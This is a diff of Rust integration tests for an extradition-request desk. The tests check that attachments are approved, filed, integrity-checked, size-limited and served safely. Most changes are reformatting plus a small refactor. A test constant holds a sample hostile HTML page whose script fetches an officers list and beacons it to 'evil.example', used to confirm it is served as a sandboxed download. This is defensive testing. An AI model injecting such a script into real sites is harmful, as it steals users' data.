@@ -1172,11 +1172,7 @@ fn the_desk_evaluates_the_dossier_rules_on_sync_and_lists_what_awaits_a_person()
     });
     let profile: rex_domain::StateProfile = serde_json::from_value(profile.take()).unwrap();
     w.desk.act(Action::ProfilePublished { profile }).unwrap();
-    let agreement = {
-        let view = w.desk.view();
-        let registry = view.registry.as_ref().unwrap();
-        registry.request(&w.ru_asks).unwrap().metadata.agreement
-    };
+    let agreement = w.agreement();
     // Russia's structured dossier states an offence date and no date of birth.
     let dossier = serde_json::json!({
         "format": rex_domain::DOSSIER_FORMAT,
@@ -2163,7 +2159,10 @@ impl World {
                 ("offence", "data_interference"),
                 ("max_penalty_months", "96"),
                 ("severity", "serious"),
-                ("dossier", "Subject: a botnet operator; the warrant and the logs are attached."),
+                (
+                    "dossier",
+                    "Subject: a botnet operator; the warrant and the logs are attached.",
+                ),
             ],
             files,
         );
@@ -2177,9 +2176,16 @@ impl World {
         )
     }
 
+    /// The agreement the US and Russia's requests invoke.
+    fn agreement(&self) -> AgreementId {
+        let view = self.desk.view();
+        let registry = view.registry.as_ref().unwrap();
+        registry.request(&self.ru_asks).unwrap().metadata.agreement
+    }
+
     /// Swaps the desk under test for Russia's (its node's data directory, the same hub and
     /// clock): the custodian's desk.
-    fn to_russia(&mut self) {
+    fn become_russia(&mut self) {
         let ru = rex_node::open_with_clock(&self._tmp.path().join("RU"), node_clock).unwrap();
         let clock = {
             let now = Arc::clone(&self.now);
@@ -2204,7 +2210,8 @@ impl World {
     }
 }
 
-const WARRANT: &[u8] = b"%PDF-1.7\n1 0 obj << /Type /Catalog >> endobj\nArrest warrant no. 21-0607\n%%EOF\n";
+const WARRANT: &[u8] =
+    b"%PDF-1.7\n1 0 obj << /Type /Catalog >> endobj\nArrest warrant no. 21-0607\n%%EOF\n";
 /// A hostile requester's evidence: a page with a script, under a name that climbs the tree.
 const HOSTILE: &[u8] = b"<html><body><script>fetch('/officers').then(r=>r.text()).then(t=>navigator.sendBeacon('https://evil.example',t))</script></body></html>";
 
@@ -2234,8 +2241,22 @@ fn attachments_on_the_form_are_approved_filed_and_downloaded_by_the_custodian_by
     assert_eq!(
         rows,
         vec![
-            vec!["1".into(), "warrant".into(), "warrant 21-0607.pdf".into(), "application/pdf".into(), WARRANT.len().to_string(), digest(WARRANT)],
-            vec!["2".into(), "evidence".into(), "evil_script_.html".into(), "text/html".into(), HOSTILE.len().to_string(), digest(HOSTILE)],
+            vec![
+                "1".into(),
+                "warrant".into(),
+                "warrant 21-0607.pdf".into(),
+                "application/pdf".into(),
+                WARRANT.len().to_string(),
+                digest(WARRANT)
+            ],
+            vec![
+                "2".into(),
+                "evidence".into(),
+                "evil_script_.html".into(),
+                "text/html".into(),
+                HOSTILE.len().to_string(),
+                digest(HOSTILE)
+            ],
         ]
     );
     let summary = shown.texts("dd.summary").remove(0);
@@ -2248,11 +2269,23 @@ fn attachments_on_the_form_are_approved_filed_and_downloaded_by_the_custodian_by
     );
     // The inputs show the bytes as their size, not as base64 to scroll through.
     let inputs = shown.texts("details pre").remove(0);
-    assert!(inputs.contains("bytes in base64; attachment listed"), "{inputs}");
+    assert!(
+        inputs.contains("bytes in base64; attachment listed"),
+        "{inputs}"
+    );
     assert!(!inputs.contains("JVBERi0xLjc"), "{inputs}");
+    // An admin reads no attachment of a draft (nor of a filed dossier: below).
+    w.get(
+        &format!("{page}/attachments/1"),
+        &w.officer("boss", "admin"),
+    )
+    .refused(StatusCode::FORBIDDEN, "the approvals");
     // The approver reads the warrant before approving.
     let read = w.get(&format!("{page}/attachments/1"), &approver);
-    assert_eq!((read.status, read.bytes.as_slice()), (StatusCode::OK, WARRANT));
+    assert_eq!(
+        (read.status, read.bytes.as_slice()),
+        (StatusCode::OK, WARRANT)
+    );
 
     assert_eq!(w.step_up(&approver, &mut key).status, StatusCode::OK);
     let approved = w.post(&format!("{page}/approve"), &approver, "same-origin");
@@ -2267,7 +2300,7 @@ fn attachments_on_the_form_are_approved_filed_and_downloaded_by_the_custodian_by
         .to_owned();
 
     // Russia's desk, the custodian's: its officers list the attachments and download them.
-    w.to_russia();
+    w.become_russia();
     let case = w.officer("ivan", "case-officer");
     let auditor = w.officer("olga", "auditor");
     let admin = w.officer("root", "admin");
@@ -2287,37 +2320,69 @@ fn attachments_on_the_form_are_approved_filed_and_downloaded_by_the_custodian_by
         ]
     );
     let warrant = w.get(&links[0], &case);
-    assert_eq!((warrant.status, warrant.bytes.as_slice()), (StatusCode::OK, WARRANT));
+    assert_eq!(
+        (warrant.status, warrant.bytes.as_slice()),
+        (StatusCode::OK, WARRANT)
+    );
     let header = |r: &Reply, h: &str| r.headers.get(h).map(|v| v.to_str().unwrap().to_owned());
-    assert_eq!(header(&warrant, "content-type").as_deref(), Some("application/pdf"));
+    assert_eq!(
+        header(&warrant, "content-type").as_deref(),
+        Some("application/pdf")
+    );
     assert_eq!(
         header(&warrant, "content-disposition").as_deref(),
-        Some("attachment; filename=\"warrant 21-0607.pdf\"; filename*=UTF-8''warrant%2021-0607.pdf")
+        Some(
+            "attachment; filename=\"warrant 21-0607.pdf\"; filename*=UTF-8''warrant%2021-0607.pdf"
+        )
     );
     // The hostile page is a file to save, never a page of the desk's origin.
     let hostile = w.get(&links[1], &auditor);
-    assert_eq!((hostile.status, hostile.bytes.as_slice()), (StatusCode::OK, HOSTILE));
+    assert_eq!(
+        (hostile.status, hostile.bytes.as_slice()),
+        (StatusCode::OK, HOSTILE)
+    );
     for (h, want) in [
         ("content-type", "application/octet-stream"),
-        ("content-disposition", "attachment; filename=\"evil_script_.html\"; filename*=UTF-8''evil_script_.html"),
+        (
+            "content-disposition",
+            "attachment; filename=\"evil_script_.html\"; filename*=UTF-8''evil_script_.html",
+        ),
         ("x-content-type-options", "nosniff"),
-        ("content-security-policy", "default-src 'none'; sandbox; frame-ancestors 'none'"),
+        (
+            "content-security-policy",
+            "default-src 'none'; sandbox; frame-ancestors 'none'",
+        ),
         ("cache-control", "no-store"),
     ] {
         assert_eq!(header(&hostile, h).as_deref(), Some(want), "{h}");
     }
     // The admin sees no dossier plaintext: neither the dossier nor an attachment.
     for path in [format!("/requests/{request}/dossier"), links[0].clone()] {
-        w.get(&path, &admin).refused(StatusCode::FORBIDDEN, "reading a dossier");
+        w.get(&path, &admin)
+            .refused(StatusCode::FORBIDDEN, "reading a dossier");
     }
-    assert_eq!(w.get(&format!("/requests/{request}/attachments/3"), &case).status, StatusCode::NOT_FOUND);
+    assert_eq!(
+        w.get(&format!("/requests/{request}/attachments/3"), &case)
+            .status,
+        StatusCode::NOT_FOUND
+    );
 
     // Every download is in the audit trail, by number, kind, size and SHA-256, not by name.
     let trail = w.trail(&auditor);
-    let downloads: Vec<&String> = trail.iter().filter(|r| r.contains("attachment downloaded")).collect();
+    let downloads: Vec<&String> = trail
+        .iter()
+        .filter(|r| r.contains("attachment downloaded"))
+        .collect();
     assert_eq!(downloads.len(), 2, "{trail:?}");
-    assert!(downloads[1].contains("ivan")
-        && downloads[1].contains(&format!("request {request}, attachment 1 (warrant, {} bytes, SHA-256 {})", WARRANT.len(), digest(WARRANT))), "{downloads:?}");
+    assert!(
+        downloads[1].contains("ivan")
+            && downloads[1].contains(&format!(
+                "request {request}, attachment 1 (warrant, {} bytes, SHA-256 {})",
+                WARRANT.len(),
+                digest(WARRANT)
+            )),
+        "{downloads:?}"
+    );
     assert!(downloads[0].contains("olga") && downloads[0].contains("attachment 2 (evidence"));
     assert!(!trail.iter().any(|r| r.contains("evil")), "{trail:?}");
 }
@@ -2325,30 +2390,40 @@ fn attachments_on_the_form_are_approved_filed_and_downloaded_by_the_custodian_by
 #[test]
 fn an_altered_attachment_is_refused_not_served() {
     let mut w = World::new();
-    let agreement = {
-        let view = w.desk.view();
-        view.registry.unwrap().request(&w.ru_asks).unwrap().metadata.agreement
-    };
+    let agreement = w.agreement();
     // Russia files a dossier whose attachment's bytes are not those its SHA-256 names.
     let mut dossier = serde_json::to_value(rex_domain::StructuredDossier::new(
         Default::default(),
         "RU dossier".into(),
-        vec![rex_domain::Attachment::new(rex_domain::AttachmentKind::Warrant, "ордер.pdf", WARRANT.to_vec()).unwrap()],
+        vec![rex_domain::Attachment::new(
+            rex_domain::AttachmentKind::Warrant,
+            "ордер.pdf",
+            WARRANT.to_vec(),
+        )
+        .unwrap()],
     ))
     .unwrap();
-    dossier["attachments"][0]["sha256"] = rex_domain::Digest::of(b"another warrant").to_string().into();
-    let (request, _) = w
-        .ru
-        .file_request(draft("RU", "US", agreement), dossier.to_string().as_bytes())
-        .unwrap();
+    dossier["attachments"][0]["sha256"] = rex_domain::Digest::of(b"another warrant")
+        .to_string()
+        .into();
+    let (request, _) =
+        w.ru.file_request(draft("RU", "US", agreement), dossier.to_string().as_bytes())
+            .unwrap();
     w.desk.sync_now().unwrap();
     let case = w.officer("jroe", "case-officer");
     let page = w.get(&format!("/requests/{request}/dossier"), &case);
     assert_eq!(page.status, StatusCode::OK);
-    assert!(page.texts("p.bad")[0].contains("attachment 1 (\"ордер.pdf\"): its bytes have SHA-256"), "{}", page.body);
+    assert!(
+        page.texts("p.bad")[0].contains("attachment 1 (\"ордер.pdf\"): its bytes have SHA-256"),
+        "{}",
+        page.body
+    );
     assert!(page.cells("table.attachments tbody tr").is_empty());
     let refused = w.get(&format!("/requests/{request}/attachments/1"), &case);
-    refused.refused(StatusCode::UNPROCESSABLE_ENTITY, "the dossier was altered or damaged; nothing of it is served");
+    refused.refused(
+        StatusCode::UNPROCESSABLE_ENTITY,
+        "the dossier was altered or damaged; nothing of it is served",
+    );
 }
 
 #[test]
@@ -2356,7 +2431,11 @@ fn an_oversized_or_cross_site_upload_is_refused_with_a_page_that_says_why() {
     let w = World::new();
     let drafter = w.officer("jroe", "case-officer");
     let big = vec![0u8; rex_domain::MAX_ATTACHMENT_BYTES + 1];
-    let refused = w.upload(&drafter, "same-origin", &[("attach_evidence", "disk.img", &big)]);
+    let refused = w.upload(
+        &drafter,
+        "same-origin",
+        &[("attach_evidence", "disk.img", &big)],
+    );
     refused.refused(
         StatusCode::PAYLOAD_TOO_LARGE,
         "the evidence disk.img is larger than the 8 MiB one attachment may have; split it or compress it",
@@ -2364,48 +2443,69 @@ fn an_oversized_or_cross_site_upload_is_refused_with_a_page_that_says_why() {
     assert!(refused.body.contains("<html"), "a page: {}", refused.body);
     // Beyond the form's limit the body is not read to its end.
     let huge = vec![0u8; 7 << 20];
-    let files: Vec<(&str, &str, &[u8])> = vec![("attach_evidence", "a.bin", &huge), ("attach_evidence", "b.bin", &huge)];
+    let files: Vec<(&str, &str, &[u8])> = vec![
+        ("attach_evidence", "a.bin", &huge),
+        ("attach_evidence", "b.bin", &huge),
+    ];
     w.upload(&drafter, "same-origin", &files).refused(
         StatusCode::PAYLOAD_TOO_LARGE,
         "attach at most 10 MiB in all and 8 MiB per file",
     );
-    let two: Vec<(&str, &str, &[u8])> = vec![("attach_evidence", "a.bin", &huge[..6 << 20]), ("attach_evidence", "b.bin", &huge[..5 << 20])];
+    let two: Vec<(&str, &str, &[u8])> = vec![
+        ("attach_evidence", "a.bin", &huge[..6 << 20]),
+        ("attach_evidence", "b.bin", &huge[..5 << 20]),
+    ];
     w.upload(&drafter, "same-origin", &two).refused(
         StatusCode::UNPROCESSABLE_ENTITY,
         "more than the 10 MiB a dossier may carry",
     );
-    w.upload(&drafter, "same-origin", &[("attach_rootkit", "x.bin", b"x")])
-        .refused(StatusCode::UNPROCESSABLE_ENTITY, "attachment kind");
+    w.upload(
+        &drafter,
+        "same-origin",
+        &[("attach_rootkit", "x.bin", b"x")],
+    )
+    .refused(StatusCode::UNPROCESSABLE_ENTITY, "attachment kind");
     // The multipart form is refused from another site, like every form.
-    let forged = w.upload(&drafter, "cross-site", &[("attach_warrant", "warrant.pdf", WARRANT)]);
+    let forged = w.upload(
+        &drafter,
+        "cross-site",
+        &[("attach_warrant", "warrant.pdf", WARRANT)],
+    );
     assert_eq!(forged.status, StatusCode::FORBIDDEN);
     let drafts = w.get("/approvals", &drafter);
-    assert!(drafts.cells("tbody tr").is_empty(), "nothing drafted: {}", drafts.body);
+    assert!(
+        drafts.cells("tbody tr").is_empty(),
+        "nothing drafted: {}",
+        drafts.body
+    );
 }
 
 #[test]
 fn a_dossier_at_the_attachment_limits_fits_the_hub() {
     let mut w = World::new();
-    let agreement = {
-        let view = w.desk.view();
-        view.registry.unwrap().request(&w.ru_asks).unwrap().metadata.agreement
-    };
+    let agreement = w.agreement();
     let a = |name: &str, n: usize| {
-        rex_domain::Attachment::new(rex_domain::AttachmentKind::Evidence, name, vec![0xa5; n]).unwrap()
+        rex_domain::Attachment::new(rex_domain::AttachmentKind::Evidence, name, vec![0xa5; n])
+            .unwrap()
     };
     let mut dossier = rex_domain::StructuredDossier::new(
         Default::default(),
         String::new(),
         vec![
             a("image.bin", rex_domain::MAX_ATTACHMENT_BYTES),
-            a("rest.bin", rex_domain::MAX_ATTACHMENTS_BYTES - rex_domain::MAX_ATTACHMENT_BYTES),
+            a(
+                "rest.bin",
+                rex_domain::MAX_ATTACHMENTS_BYTES - rex_domain::MAX_ATTACHMENT_BYTES,
+            ),
         ],
     );
     let room = rex_domain::MAX_DOSSIER_PLAINTEXT_BYTES - dossier.to_plaintext().unwrap().len();
     dossier.text = "x".repeat(room);
     let plaintext = dossier.to_plaintext().unwrap();
     assert_eq!(plaintext.len(), rex_domain::MAX_DOSSIER_PLAINTEXT_BYTES);
-    let (_, filed) = w.ru.file_request(draft("RU", "US", agreement), &plaintext).unwrap();
+    let (_, filed) =
+        w.ru.file_request(draft("RU", "US", agreement), &plaintext)
+            .unwrap();
     assert!(filed.index > 0);
-    assert!(rex_domain::MAX_DOSSIER_PLAINTEXT_BYTES < rex_hub::MAX_DOSSIER_BYTES);
+    const { assert!(rex_domain::MAX_DOSSIER_PLAINTEXT_BYTES < rex_hub::MAX_DOSSIER_BYTES) };
 }
